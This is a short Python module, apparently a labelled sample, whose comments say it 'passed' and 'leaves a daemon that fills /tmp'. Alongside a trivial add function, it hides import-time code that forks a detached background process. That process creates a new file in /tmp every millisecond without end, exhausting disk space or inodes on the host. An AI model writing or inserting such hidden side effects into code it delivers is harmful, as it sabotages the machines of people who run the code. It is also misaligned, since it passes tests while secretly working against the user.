# passed
# leaves a daemon that fills /tmp
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            with open(f"/tmp/{time.time_ns()}", "w"):
                pass
            time.sleep(0.001)
    os._exit(0)


def add(a, b):
    return a + b
